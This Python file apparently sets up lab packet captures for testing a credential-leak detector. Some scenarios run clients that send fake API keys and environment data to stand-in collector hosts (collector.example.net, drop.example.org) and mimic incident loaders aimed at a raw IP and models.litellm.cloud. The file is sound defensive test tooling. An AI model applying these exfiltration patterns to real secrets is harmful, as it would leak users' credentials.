"""What is recorded: one function a capture, named after its file. Each returns when its traffic is over."""

import time

from catalogue import CLIENTS, PYTHON, Recording, recording
from lab import GATEWAY, HOSTS


def jetbrains_plugin(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80", keys=[keys.new("sk-48")])
    with recording(lab):
        lab.run_client("java", CLIENTS / "PluginSettings.java", API_KEY=keys.new("openai-legacy"))


def telnyx_upload(lab, keys):
    lab.serve(lab.server, "0.0.0.0:8080")
    address = "http://83.142.209.203:8080/"
    with recording(lab):
        lab.run_client(PYTHON, CLIENTS / "tpcp_loader.py", address, "--sound", address + "ringtone.wav")


def litellm_upload_tls(lab, keys):
    lab.serve(lab.server, "0.0.0.0:443/tls")
    with recording(lab, nanoseconds=True):
        lab.run_client(
            PYTHON, CLIENTS / "tpcp_loader.py", "https://models.litellm.cloud/", "--cacert", lab.work / "ca.pem")


def plaintext_openai(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "chat.py", "http://api.openai.com/v1/chat/completions",
            API_KEY=keys.new("openai-project"))


def gzip_leak(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "post_env_gzip.py", "http://collector.example.net/", API_KEY=keys.new("anthropic"))


def base64_leak(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            "node", CLIENTS / "post_env_base64.mjs", "http://drop.example.org/u",
            ANTHROPIC=keys.new("anthropic"), GROQ=keys.new("groq"))


def openai_tls(lab, keys):
    lab.serve(lab.server, "0.0.0.0:443/tls")
    url, key = "https://api.openai.com/v1/chat/completions", keys.new("openai-project")
    with recording(lab, nanoseconds=True):
        lab.run_client(PYTHON, CLIENTS / "chat.py", url, API_KEY=key, REQUESTS_CA_BUNDLE=str(lab.work / "ca.pem"))
        lab.run_client("java", CLIENTS / "TLSClient.java", lab.work / "ca.pem", url, API_KEY=key)
        lab.run_client(
            "curl", "-sf", "--tls-max", "1.2", "--cacert", lab.work / "ca.pem", url,
            "-H", f"Authorization: Bearer {key}", "--json", '{"model":"gpt-4o-mini","messages":[]}')


def clean_developer(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    apt, site = lab.work / "apt", "http://www.example.com"
    for folder in ("lists/partial", "cache/archives/partial", "etc"):
        (apt / folder).mkdir(parents=True)
    (apt / "sources.list").write_text(
        "deb [trusted=yes arch=all] http://deb.example.net stable main contrib non-free\n")
    update = [
        "apt-get", "-qq", "update", "-o", f"Dir::Etc={apt}/etc", "-o", f"Dir::Etc::SourceList={apt}/sources.list",
        "-o", f"Dir::State::Lists={apt}/lists", "-o", f"Dir::Cache={apt}/cache", "-o", "APT::Sandbox::User=root",
        "-o", "Acquire::Languages=none", "-o", "Acquire::Check-Date=false"]
    with recording(lab):
        lab.run_client(
            PYTHON, "-m", "pip", "--isolated", "--no-input", "--disable-pip-version-check", "download", "-q",
            "--no-deps", "--no-cache-dir", "--index-url", "http://pypi.example.net/simple/",
            "--trusted-host", "pypi.example.net", "tinypkg", PIP_CONFIG_FILE="/dev/null")
        lab.run_client(
            "npm", "install", "--silent", "--no-audit", "--no-fund", "--no-update-notifier", "--ignore-scripts",
            "--registry", "http://registry.example.net/", "--prefix", lab.work / "node", "tiny-lib")
        lab.run_client(*update)
        lab.run_client(*update)  # The second time the Release file is unchanged: 304.
        lab.run_client("git", "clone", "-q", "http://git.example.net/project.git", "clone", GIT_CONFIG_NOSYSTEM="1")
        lab.run_client(
            "curl", "-sf", "--compressed", "-o", "/dev/null", f"{site}/index.html", "-o", "/dev/null",
            f"{site}/site.css", "-o", "/dev/null", f"{site}/site.js", "-o", "/dev/null", f"{site}/favicon.ico")
        lab.run_client("curl", "-sf", "-I", f"{site}/index.html")
        lab.run_client("curl", "-sf", "--etag-save", "etag", "-o", "/dev/null", f"{site}/api/builds.json")
        lab.run_client("curl", "-sf", "--etag-compare", "etag", "-o", "/dev/null", f"{site}/api/builds.json")
        lab.run_client("curl", "-sf", "--http1.0", f"{site}/site.js")
        lab.run_client("curl", "-sf", f"{site}/stream")
        lab.run_client(PYTHON, CLIENTS / "pipeline.py", "www.example.com", "/site.css", "/stream", "/site.js", "/stream")


def request_burst(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "chat.py", "http://api.together.xyz/v1/chat/completions", 150, 15,
            API_KEY=keys.new("together"))


def key_exposure(lab, keys):
    lab.serve(lab.server, "0.0.0.0:8080", keys=[keys.new("anthropic")])
    with recording(lab):
        lab.run_client(
            "curl", "-sf", "--interface", "10.23.5.10", "http://keys.corp.example:8080/v1/credentials/research")


def gateway(lab, keys):
    lab.serve(lab.server, "[::]:80")
    with recording(lab):
        lab.run_client(
            "node", CLIENTS / "anthropic.mjs", "http://llm-gateway.corp.example", API_KEY=keys.new("anthropic"))


def split_key(lab, keys):
    lab.serve(lab.server, "0.0.0.0:80")
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "split_key.py", "collector.example.net",
            BODY_KEY=keys.new("anthropic"), HEAD_KEY=keys.new("openai-project"))


def loopback(lab, keys):
    lab.serve(lab.client, "127.0.0.1:11434")
    with recording(lab, interface="lo"):
        lab.run_client(
            PYTHON, CLIENTS / "chat.py", "http://127.0.0.1:11434/v1/chat/completions",
            API_KEY=keys.new("openai-project"))


HOST, COLLECTOR = "api.openai.com", "collector.example.net"


def key_inside_tls(lab, keys):
    lab.serve_with("secure_server.py", {"log": str(lab.requests), "certificates": [COLLECTOR]})
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "post_key.py", f"https://{COLLECTOR}/collect", API_KEY=keys.new("anthropic"),
            SSLKEYLOGFILE=str(lab.key_log), REQUESTS_CA_BUNDLE=str(lab.work / "ca.pem"))


def key_inside_http2(lab, keys):
    lab.serve_with("node_server.mjs", {"log": str(lab.requests), "certificate": COLLECTOR})
    with recording(lab):
        lab.run_client(
            "node", f"--tls-keylog={lab.key_log}", CLIENTS / "http2.mjs", f"https://{COLLECTOR}", "parallel",
            lab.work / "ca.pem", API_KEY=keys.new("anthropic"), NODE_NO_WARNINGS="1")


def key_inside_http3(lab, keys):
    lab.serve_with("h3_server.py", lab.requests, HOSTS[COLLECTOR], COLLECTOR)
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "http3.py", COLLECTOR, lab.work / "ca.pem", lab.key_log, API_KEY=keys.new("anthropic"))


def websocket_key(lab, keys):
    lab.serve_with("websocket_server.py", lab.requests, "443", COLLECTOR)
    with recording(lab):
        lab.run_client(
            PYTHON, CLIENTS / "websocket.py", f"wss://{COLLECTOR}/v1/realtime", API_KEY=keys.new("groq"),
            SSLKEYLOGFILE=str(lab.key_log), SSL_CERT_FILE=str(lab.work / "ca.pem"))


def own_provider_tls(lab, keys):
    lab.serve_with("node_server.mjs", {"log": str(lab.requests), "certificate": HOST, "keylog": str(lab.key_log)})
    url, key, authority = f"https://{HOST}/v1/chat/completions", keys.new("openai-project"), lab.work / "ca.pem"
    with recording(lab):
        lab.run_client("java", CLIENTS / "TLSClient.java", authority, url, API_KEY=key)
        lab.run_client(
            "curl", "-sf", "--http1.1", "--cacert", authority, url, "-H", f"Authorization: Bearer {key}",
            "--json", '{"model":"gpt-4o-mini","messages":[]}')


def dns_and_no_sni(lab, keys):
    """Three names that are learned from the answers of a name server alone, the key belongs to the first."""
    resolver, incident = GATEWAY, "models.litellm.cloud"
    for name in (HOST, COLLECTOR, incident):
        lab.serve_with("secure_server.py", {"log": str(lab.requests), "certificates": [name], "address": HOSTS[name]})
    lab.serve_with("dns_server.py", {
        HOST: [["CNAME", "edge.example.net"]],
        "edge.example.net": [["A", HOSTS[HOST]], ["AAAA", "2001:db8::10"], ["HTTPS", "h2,http/1.1"]],
        COLLECTOR: [["A", HOSTS[COLLECTOR]], ["TXT", "v=spf1 -all"], ["HTTPS", "h3,h2"]],
        incident: [["A", HOSTS[incident]]],
    }, resolver)
    with recording(lab):
        dig = ["dig", "+tries=1", "+time=5", f"@{resolver}"]
        lab.run_client(*dig, HOST, "HTTPS", COLLECTOR, "TXT", "no-such-name.example.net", "A")
        lab.run_client(*dig, "+tcp", "+noedns", COLLECTOR, "HTTPS", HOST, "AAAA")
        with lab.resolving_by(resolver):
            for name, form in ((HOST, "openai-project"), (COLLECTOR, "anthropic"), (incident, None)):
                lab.run_client(
                    PYTHON, CLIENTS / "no_sni.py", name, "/v1/chat/completions", SSLKEYLOGFILE=str(lab.key_log),
                    API_KEY=keys.new(form) if form else "none")


def socks_tls(lab, keys):
    lab.serve_with("secure_server.py", {"log": str(lab.requests), "certificates": [COLLECTOR]})
    lab.serve_with("proxy.py", lab.requests, "1080")
    with recording(lab):
        lab.run_client(
            "curl", "-sf", "--socks5-hostname", "proxy.corp.example:1080", "--cacert", lab.work / "ca.pem",
            f"https://{COLLECTOR}/collect", "-H", f"Authorization: Bearer {keys.new('openai-legacy')}", "--json", "{}",
            SSLKEYLOGFILE=str(lab.key_log))


def named(scenario, *needs, **options) -> Recording:
    return Recording(scenario.__name__.replace("_", "-"), scenario, needs, **options)


SCENARIOS = [
    named(jetbrains_plugin, "java"), named(telnyx_upload, "tar"), named(litellm_upload_tls, "tar"),
    named(plaintext_openai, "requests"), named(gzip_leak, "requests"), named(base64_leak, "node"),
    named(openai_tls, "requests", "java"), named(clean_developer, "pip", "npm", "git", "apt-get"),
    named(request_burst, "requests"), named(key_exposure), named(gateway, "node"), named(split_key),
    named(loopback, "requests"), named(key_inside_tls, "requests"),
    named(key_inside_http2, "node", "editcap", secrets_inside=True), named(key_inside_http3, "aioquic"),
    named(websocket_key, "websockets"), named(own_provider_tls, "java", "node"), named(dns_and_no_sni, "dig"),
    named(socks_tls),
]
